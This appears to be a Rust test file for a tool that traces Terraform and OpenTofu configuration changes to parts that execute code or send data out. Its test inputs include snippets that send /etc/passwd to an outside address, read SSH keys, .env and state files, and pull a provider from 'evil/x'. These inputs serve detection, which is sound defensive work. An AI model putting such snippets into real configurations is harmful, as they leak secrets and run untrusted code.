use super::*;

fn read(files: &[(&str, &str)]) -> ConfigurationGraph {
    ConfigurationGraph::read(files.iter().map(|(path, text)| (*path, text.as_bytes())))
}

/// Describes the sink that a change from `before` to `after` reaches.
fn reached(before: &[(&str, &str)], after: &[(&str, &str)]) -> Option<String> {
    read(after).first_reached_sink(Some(&read(before))).map(|reached| reached.to_string())
}

const STATE: &str =
    "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config = { address = local.url }\n}\n";
const HTTP: &str = "data \"http\" \"x\" {\n  url = ADDRESS\n}\n";

/// One file before and after the change, and the expected sink.
#[test]
fn a_changed_value_is_followed_to_what_executes_or_sends() {
    let http = |address: &str| HTTP.replace("ADDRESS", address);
    let local = |value: &str| format!("locals {{\n  url = {value}\n}}\n");
    let cases: Vec<(&str, String, String, Option<&str>)> = vec![
        ("direct", http("\"a\""), http("\"b\""), Some("data http x in main.tf")),
        ("new", String::new(), http("\"a\""), Some("data http x in main.tf")),
        (
            "via a local",
            local("\"a\"") + STATE,
            local("\"http://elsewhere/${filebase64(\\\"/etc/passwd\\\")}\"").replace("\\\"", "\"") + STATE,
            Some("data terraform_remote_state x in main.tf, which uses the changed local.url in main.tf"),
        ),
        (
            "via a local of a local",
            local("local.a") + "locals {\n  a = \"1\"\n}\n" + STATE,
            local("local.a") + "locals {\n  a = \"2\"\n}\n" + STATE,
            Some("data terraform_remote_state x in main.tf, which uses the changed local.a in main.tf"),
        ),
        (
            "via an index of all locals",
            local("\"a\"") + &http("local[\"url\"]"),
            local("\"b\"") + &http("local[\"url\"]"),
            Some("data http x in main.tf, which uses the changed local.url in main.tf"),
        ),
        (
            "via all locals",
            local("\"a\"") + &http("lookup(local, var.name)"),
            local("\"b\"") + &http("lookup(local, var.name)"),
            Some("data http x in main.tf, which uses the changed local.url in main.tf"),
        ),
        (
            "via the default of a variable",
            "variable \"u\" {\n  default = \"a\"\n}\n".to_owned() + &http("var.u"),
            "variable \"u\" {\n  default = \"b\"\n}\n".to_owned() + &http("var.u"),
            Some("data http x in main.tf, which uses the changed variable u in main.tf"),
        ),
        (
            "in a heredoc",
            local("\"a\"") + &http("<<EOT\nhttp://${local.url}\nEOT\n"),
            local("\"b\"") + &http("<<EOT\nhttp://${local.url}\nEOT\n"),
            Some("data http x in main.tf, which uses the changed local.url in main.tf"),
        ),
        (
            "in a condition of a template",
            local("\"a\"") + &http("\"%{ if local.url == \"a\" }x%{ endif }\""),
            local("\"b\"") + &http("\"%{ if local.url == \"a\" }x%{ endif }\""),
            Some("data http x in main.tf, which uses the changed local.url in main.tf"),
        ),
        (
            "for_each",
            local("[\"a\"]") + "data \"http\" \"x\" {\n  for_each = toset(local.url)\n  url = each.value\n}\n",
            local("[\"b\"]") + "data \"http\" \"x\" {\n  for_each = toset(local.url)\n  url = each.value\n}\n",
            Some("data http x in main.tf, which uses the changed local.url in main.tf"),
        ),
        (
            "a dynamic block",
            local("[\"a\"]")
                + "data \"aws_ami\" \"x\" {\n  dynamic \"filter\" {\n    for_each = [for u in local.url : u]\n    content {\n      name = filter.value\n    }\n  }\n}\n",
            local("[\"b\"]")
                + "data \"aws_ami\" \"x\" {\n  dynamic \"filter\" {\n    for_each = [for u in local.url : u]\n    content {\n      name = filter.value\n    }\n  }\n}\n",
            Some("data aws_ami x in main.tf, which uses the changed local.url in main.tf"),
        ),
        (
            "via a resource",
            "resource \"terraform_data\" \"t\" {\n  input = \"a\"\n}\n".to_owned() + &http("terraform_data.t.output"),
            "resource \"terraform_data\" \"t\" {\n  input = \"b\"\n}\n".to_owned() + &http("terraform_data.t.output"),
            Some("data http x in main.tf, which uses the changed resource terraform_data t in main.tf"),
        ),
        (
            "via the long form of a resource",
            "resource \"terraform_data\" \"t\" {\n  input = \"a\"\n}\n".to_owned() + &http("resource.terraform_data.t.output"),
            "resource \"terraform_data\" \"t\" {\n  input = \"b\"\n}\n".to_owned() + &http("resource.terraform_data.t.output"),
            Some("data http x in main.tf, which uses the changed resource terraform_data t in main.tf"),
        ),
        (
            "external data",
            local("\"a\"") + "data \"external\" \"x\" {\n  program = [\"sh\", local.url]\n}\n",
            local("\"b\"") + "data \"external\" \"x\" {\n  program = [\"sh\", local.url]\n}\n",
            Some("data external x in main.tf, which uses the changed local.url in main.tf"),
        ),
        (
            "a provisioner",
            local("\"a\"")
                + "resource \"terraform_data\" \"t\" {\n  provisioner \"local-exec\" {\n    command = local.url\n  }\n}\n",
            local("\"b\"")
                + "resource \"terraform_data\" \"t\" {\n  provisioner \"local-exec\" {\n    command = local.url\n  }\n}\n",
            Some(
                "provisioner local-exec of resource terraform_data t in main.tf, which uses the changed local.url in main.tf",
            ),
        ),
        (
            "a provisioner that uses self",
            "resource \"terraform_data\" \"t\" {\n  input = 1\n  provisioner \"remote-exec\" {\n    inline = [self.input]\n  }\n}\n".to_owned(),
            "resource \"terraform_data\" \"t\" {\n  input = 2\n  provisioner \"remote-exec\" {\n    inline = [self.input]\n  }\n}\n".to_owned(),
            Some("provisioner remote-exec of resource terraform_data t in main.tf, which uses the changed resource terraform_data t in main.tf"),
        ),
        (
            "an argument of a provider",
            local("\"a\"") + "provider \"aws\" {\n  profile = local.url\n}\n",
            local("\"b\"") + "provider \"aws\" {\n  profile = local.url\n}\n",
            Some("provider aws in main.tf, which uses the changed local.url in main.tf"),
        ),
        (
            "an address of a provider",
            String::new(),
            "provider \"aws\" {\n  endpoints {\n    s3 = \"https://elsewhere\"\n  }\n}\n".to_owned(),
            Some("provider aws in main.tf"),
        ),
        (
            "a backend",
            String::new(),
            "terraform {\n  backend \"http\" {\n    address = \"http://elsewhere\"\n  }\n}\n".to_owned(),
            Some("backend http of terraform in main.tf"),
        ),
        (
            "a provider of somebody else",
            String::new(),
            "terraform {\n  required_providers {\n    x = { source = \"evil/x\" }\n  }\n}\n".to_owned(),
            Some("provider requirement x in main.tf"),
        ),
        (
            "a remote module",
            String::new(),
            "module \"m\" {\n  source = \"git::https://elsewhere\"\n}\n".to_owned(),
            Some("module m in main.tf"),
        ),
        (
            "a source that is no constant",
            String::new(),
            "module \"m\" {\n  source = \"${local.a}\"\n}\n".to_owned(),
            Some("module m in main.tf"),
        ),
        (
            "an input of a remote module",
            local("\"a\"") + "module \"m\" {\n  source = \"acme/m/aws\"\n  x = local.url\n}\n",
            local("\"b\"") + "module \"m\" {\n  source = \"acme/m/aws\"\n  x = local.url\n}\n",
            Some("module m in main.tf, which uses the changed local.url in main.tf"),
        ),
        ("ephemeral", String::new(), "ephemeral \"x\" \"y\" {}\n".to_owned(), Some("ephemeral x y in main.tf")),
        ("a check", String::new(), "check \"x\" {}\n".to_owned(), Some("check x in main.tf")),
        (
            "an import",
            String::new(),
            "import {\n  to = a.b\n  id = local.x\n}\n".to_owned(),
            Some("import in main.tf"),
        ),
        ("a file that cannot be parsed", String::new(), "resource \"a\" {".to_owned(), Some("main.tf, which cannot be parsed")),
        // ---- unchanged values, and values that reach no sink
        ("unchanged", local("\"a\"") + STATE, local("\"a\"") + STATE, None),
        (
            "another local",
            local("\"a\"") + STATE + "locals {\n  b = 1\n}\n",
            local("\"a\"") + STATE + "locals {\n  b = 2\n}\n",
            None,
        ),
        (
            "a comment",
            local("\"a\"") + STATE,
            format!("# other\n{}{STATE}", local("\"a\"")),
            None,
        ),
        (
            "a plain resource",
            STATE.to_owned(),
            STATE.to_owned() + "resource \"aws_vpc\" \"v\" {\n  cidr_block = \"10.0.0.0/16\"\n}\n",
            None,
        ),
        (
            "a document that is computed",
            String::new(),
            "data \"aws_iam_policy_document\" \"d\" {}\nresource \"a\" \"b\" {\n  x = data.aws_iam_policy_document.d.json\n}\n".to_owned(),
            None,
        ),
        (
            "a plain provider",
            String::new(),
            "provider \"azurerm\" {\n  features {}\n}\nprovider \"aws\" {\n  region = \"eu-west-1\"\n}\n".to_owned(),
            None,
        ),
        (
            "an official provider",
            String::new(),
            "terraform {\n  required_version = \">= 1.5\"\n  required_providers {\n    aws = {\n      source = \"hashicorp/aws\"\n      version = \"~> 6.0\"\n    }\n  }\n}\n".to_owned(),
            None,
        ),
    ];
    for (case, before, after, expected) in cases {
        let found = reached(&[("main.tf", &before)], &[("main.tf", &after)]);
        assert_eq!(found.as_deref(), expected, "{case}");
    }
}

#[test]
fn modules_pass_values_in_and_out() {
    let call = |value: &str| format!("module \"m\" {{\n  source = \"./modules/m\"\n  u = {value}\n}}\n");
    let variable = "variable \"u\" {}\n";
    let sends = "variable \"u\" {}\ndata \"http\" \"x\" {\n  url = var.u\n}\n";
    let gives = "variable \"u\" {}\noutput \"o\" {\n  value = var.u\n}\n";
    let uses = |index: &str| format!("data \"http\" \"y\" {{\n  url = module.m{index}.o\n}}\n");
    let inner = "modules/m/main.tf";
    let (a, b) = (call("\"a\""), call("\"b\""));
    assert_eq!(
        reached(&[("main.tf", &a), (inner, sends)], &[("main.tf", &b), (inner, sends)]).as_deref(),
        Some("data http x in modules/m/main.tf, which uses the changed u of module m in main.tf")
    );
    for index in ["", "[0]", "[\"k\"]", "[*]"] {
        let (before, after) = (a.clone() + &uses(index), b.clone() + &uses(index));
        assert_eq!(
            reached(&[("main.tf", &before), (inner, gives)], &[("main.tf", &after), (inner, gives)])
                .as_deref(),
            Some("data http y in main.tf, which uses the changed u of module m in main.tf"),
            "{index}"
        );
    }
    assert_eq!(reached(&[("main.tf", &a), (inner, variable)], &[("main.tf", &b), (inner, variable)]), None);
    // An additional call of a module that sends data.
    let twice = call("\"a\"").replace("  u", "  count = 2\n  u");
    assert!(reached(&[("main.tf", &a), (inner, sends)], &[("main.tf", &twice), (inner, sends)]).is_some());
    // The files of the module are unknown or outside the folder of the board.
    for source in ["./modules/other", "../m", "/m", "m"] {
        let foreign = call("\"a\"").replace("./modules/m", source);
        assert_eq!(
            reached(&[], &[("main.tf", &foreign), (inner, variable)]).as_deref(),
            Some("module m in main.tf"),
            "{source}"
        );
    }
}

#[test]
fn foreign_files_and_values_are_part_of_the_module() {
    let own = |value: &str| format!("locals {{\n  url = \"{value}\"\n}}\n");
    let (a, b) = (own("a"), own("b"));
    assert!(reached(&[("main.tf", &a), ("own.tf", STATE)], &[("main.tf", &b), ("own.tf", STATE)]).is_some());
    let (variable, values) = ("variable \"u\" {}\ndata \"http\" \"x\" {\n  url = var.u\n}\n", "u = \"a\"\n");
    let other = values.replace('a', "b");
    assert_eq!(
        reached(
            &[("own.tf", variable), ("terraform.tfvars", values)],
            &[("own.tf", variable), ("terraform.tfvars", &other)]
        )
        .as_deref(),
        Some("data http x in own.tf, which uses the changed variable u in own.tf")
    );
    let json = ("x.tf.json", "{\"data\": {}}");
    assert!(reached(&[("main.tf", &a), json], &[("main.tf", &b), json]).unwrap().contains("JSON"));
    // An override file adds to the block of the same name.
    let (data, over) =
        ("data \"http\" \"x\" {\n  url = \"a\"\n}\n", "data \"http\" \"x\" {\n  url = local.url\n}\n");
    let with = |text: &str| read(&[("main.tf", text), ("http.tf", data), ("x_override.tf", over)]);
    assert!(with(&b).first_reached_sink(Some(&with(&a))).is_some());
}

#[test]
fn files_are_read_by_a_constant_below_the_module_folder_only() {
    let check = |value: &str| {
        let text = format!("locals {{\n  x = {value}\n}}\n");
        reached(&[], &[("main.tf", &text)])
    };
    for value in [
        "file(\"/etc/passwd\")",
        "filebase64(\"~/.ssh/id_rsa\")",
        "filesha256(\"../x\")",
        "templatefile(\"${path.module}/../x.tftpl\", {})",
        "templatefile(\"a/../../x\", {})",
        "templatefile(\"${path.module}/x.tftpl\", { a = 1 })",
        "templatestring(local.x, {})",
        "abspath(\"x\")",
        "core::file(\"x\")",
        "file(\".env\")",
        "file(\"a/.ssh/id_rsa\")",
        "file(\"terraform.tfstate\")",
        "file(\"terraform.tfstate.backup\")",
        "file(\"live.auto.tfvars\")",
        "filebase64(\"draftboard.tfplan\")",
        "file(local.path)",
        "file(\"${path.root}/x\")",
        "file(\"${path.module}${local.x}\")",
        "file(pathexpand(\"~/x\"))",
        "fileset(\"/etc\", \"*\")",
        "fileset(path.module, \"../*\")",
        "fileset(path.module, \"{../a,b}/*\")",
        "fileexists(\".\")",
        "upper(file(\"/x\"))",
        "\"%{ for f in [file(\"/x\")] }${f}%{ endfor }\"",
        "<<EOT\n%{ for f in [file(\"/x\")] }${f}%{ endfor }\nEOT\n",
        "nonsensitive(var.password)",
        "[for f in [\"/x\"] : file(f)]",
        "\"${file(\"/x\")}\"",
        "<<EOT\n${file(\"/x\")}\nEOT\n",
        "provider::local::direxists(\"/x\")",
    ] {
        assert!(check(value).is_some_and(|found| found.contains("function")), "{value}");
    }
    for value in [
        "file(\"x.txt\")",
        "file(\"./scripts/x.sh\")",
        "file(\"${path.module}/x.txt\")",
        "fileset(path.module, \"files/*.json\")",
        "fileset(\"${path.module}/files\", \"*.json\")",
        "filesha256((\"x\"))",
        "upper(\"file\")",
    ] {
        assert_eq!(check(value), None, "{value}");
    }
    for value in ["path.cwd", "\"${path.cwd}/x\"", "path[local.x]", "{ a = path }"] {
        assert!(check(value).is_some_and(|found| found.contains("path.cwd")), "{value}");
    }
    let module = "locals {\n  a = file(\"${path.module}/./b.txt\")\n}\n";
    let files =
        read(&[("main.tf", "locals {\n  a = filemd5(\"a.txt\")\n}\n"), ("modules/m/main.tf", module)]);
    assert_eq!(files.constant_files().collect::<Vec<_>>(), ["a.txt", "b.txt", "modules/m/b.txt"]);
    // A path that contains a changed value.
    let text = |name: &str| {
        format!("locals {{\n  name = \"{name}\"\n}}\nresource \"a\" \"b\" {{\n  x = file(local.name)\n}}\n")
    };
    let found = reached(&[("main.tf", &text("a"))], &[("main.tf", &text("/etc/passwd"))]);
    assert!(found.is_some_and(|found| found.starts_with("the function file() of resource a b")));
}

#[test]
fn what_an_accepted_configuration_executes_by_itself_is_named() {
    let sink = |files: &[(&str, &str)]| read(files).first_sink();
    for (text, expected) in [
        ("data \"external\" \"x\" {\n  program = [\"sh\"]\n}\n", "data external x in main.tf"),
        ("provider \"aws\" {\n  endpoints {\n    s3 = \"x\"\n  }\n}\n", "provider aws in main.tf"),
        ("terraform {\n  backend \"http\" {}\n}\n", "backend http of terraform in main.tf"),
        ("locals {\n  a = file(\"/x\")\n}\n", "the function file() of local.a in main.tf"),
        (
            "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"sh run.sh\"\n  }\n}\n",
            "provisioner local-exec of resource terraform_data x in main.tf",
        ),
        ("resource \"a\" {", "main.tf, which cannot be parsed"),
    ] {
        assert_eq!(sink(&[("main.tf", text)]).as_deref(), Some(expected), "{text}");
    }
    // Settings come with a clone: no person has approved them.
    let backend =
        |kind: &str, config: &str| format!("terraform {{\n  backend \"{kind}\" {{\n{config}\n}}\n}}\n");
    let provider = |config: &str| format!("provider \"aws\" {{\n{config}\n}}\n");
    for (file, text) in [
        ("terraform.tf", backend("s3", "bucket = \"x\"")),
        ("terraform.tf", backend("http", "address = \"http://elsewhere\"")),
        ("terraform.tf", backend("local", "path = \"../x.tfstate\"")),
        ("terraform.tf", backend("local", "path = \"/x.tfstate\"")),
        ("terraform.tf", backend("local", "path = \"main.tf\"")),
        ("terraform.tf", backend("local", "workspace_dir = \"x\"")),
        (
            "terraform.tf",
            "terraform {\n  required_providers {\n    x = { source = \"evil/x\" }\n  }\n}\n".to_owned(),
        ),
        (
            "terraform.tf",
            "terraform {\n  required_providers {\n    x = { source = \"hashicorp/x\", \"source\" = \"evil/x\" }\n  }\n}\n"
                .to_owned(),
        ),
        ("providers.tf", provider("profile = \"live\"")),
        ("providers.tf", provider("shared_config_files = [\"x\"]")),
        ("providers.tf", provider("region = local.r")),
        ("providers.tf", provider("region = \"x.elsewhere/\"")),
        ("providers.tf", provider("skip_region_validation = local.r")),
        ("providers.tf", provider("assume_role {\n  role_arn = \"x\"\n}")),
        ("providers.tf", provider("default_tags {\n  tags = local.tags\n}")),
    ] {
        assert!(sink(&[(file, &text)]).is_some(), "{text}");
    }
    let runs = "resource \"terraform_data\" \"t\" {\n  input = \"x\"\n}\n";
    let plain = provider(
        "region = \"eu-west-1\"\nskip_region_validation = true\ndefault_tags {\n  tags = {\n    a = \"b\"\n    \"c d\" = 1\n  }\n}",
    );
    for config in ["", "path = \"own.tfstate\"", "path = \"states/own.tfstate\""] {
        let settings = backend("local", config);
        assert_eq!(sink(&[("terraform.tf", &settings), ("providers.tf", &plain), ("main.tf", runs)]), None);
    }
}

#[test]
fn an_init_fetches_nothing_for_what_is_built_in() {
    let fetched = |text: &str| read(&[("main.tf", text)]).first_fetched();
    for text in [
        "",
        "terraform {\n  required_version = \">= 1.5\"\n}\nresource \"terraform_data\" \"a\" {}\n",
        "terraform {\n  required_providers {\n    terraform = { source = \"terraform.io/builtin/terraform\" }\n  }\n}\n",
    ] {
        assert_eq!(fetched(text), None, "{text}");
    }
    for text in [
        "resource \"aws_vpc\" \"a\" {}\n",
        "resource \"terraform_data\" \"a\" {\n  provider = aws\n}\n",
        "data \"http\" \"a\" {}\n",
        "provider \"aws\" {}\n",
        "terraform {\n  required_providers {\n    aws = { source = \"hashicorp/aws\" }\n  }\n}\n",
        "check \"a\" {}\n",
        "resource \"a\" {",
    ] {
        assert!(fetched(text).is_some(), "{text}");
    }
}

#[test]
fn what_terraform_reads_differently_is_not_judged() {
    let hidden = "locals {\n  a = <<EOT\nEOT\n}\ndata \"http\" \"x\" {\n  url = \"x\"\n}\nlocals {\n  b = <<EOT\ntext\nEOT\n}\n";
    assert_eq!(read(&[("main.tf", hidden)]).first_sink().as_deref(), Some("main.tf, which cannot be parsed"));
    let bytes: &[u8] = b"# \xff\n";
    assert!(ConfigurationGraph::read([("main.tf", bytes)]).first_sink().is_some());
    // OpenTofu files are part of the configuration.
    for name in ["x.tofu", "modules/m/x.tofu", "x.tofu.json"] {
        assert!(read(&[(name, "data \"http\" \"x\" {}\n")]).first_sink().is_some(), "{name}");
    }
}
